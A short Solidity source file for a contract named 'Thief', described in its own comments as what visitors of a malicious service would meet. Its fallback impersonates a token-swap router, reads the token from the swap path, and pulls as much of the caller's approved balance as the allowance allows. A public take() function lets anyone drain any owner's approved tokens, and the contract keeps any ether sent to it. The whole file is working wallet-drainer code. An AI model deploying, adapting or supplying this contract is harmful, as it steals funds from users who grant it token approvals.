// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// What visitors of a bad service would meet. It keeps coins that it is sent. Called as a router, it takes the token that is to be
/// swapped; and whoever asks makes it take what somebody has let it have.
contract Thief {
    /// The place of the path in a swap of tokens: amount, minimum, path, recipient, deadline.
    uint256 private constant pathArgument = 2;

    receive() external payable {}

    fallback() external payable {
        if (msg.value == 0 && msg.data.length >= 4 + 7 * 32) take(firstOfPath(), msg.sender);
    }

    function take(address token, address owner) public {
        uint256 allowed = read(token, abi.encodeWithSignature("allowance(address,address)", owner, address(this)));
        uint256 owned = read(token, abi.encodeWithSignature("balanceOf(address)", owner));
        uint256 amount = allowed < owned ? allowed : owned;
        // Tokens that return nothing are taken as well.
        (bool isTaken,) =
            token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", owner, address(this), amount));
        require(isTaken, "There was nothing to take");
    }

    function read(address token, bytes memory question) private view returns (uint256) {
        (bool isAnswered, bytes memory answer) = token.staticcall(question);
        return isAnswered && answer.length >= 32 ? abi.decode(answer, (uint256)) : 0;
    }

    function firstOfPath() private pure returns (address) {
        uint256 path = 4 + uint256(bytes32(msg.data[4 + pathArgument * 32:]));
        return address(uint160(uint256(bytes32(msg.data[path + 32:]))));
    }
}
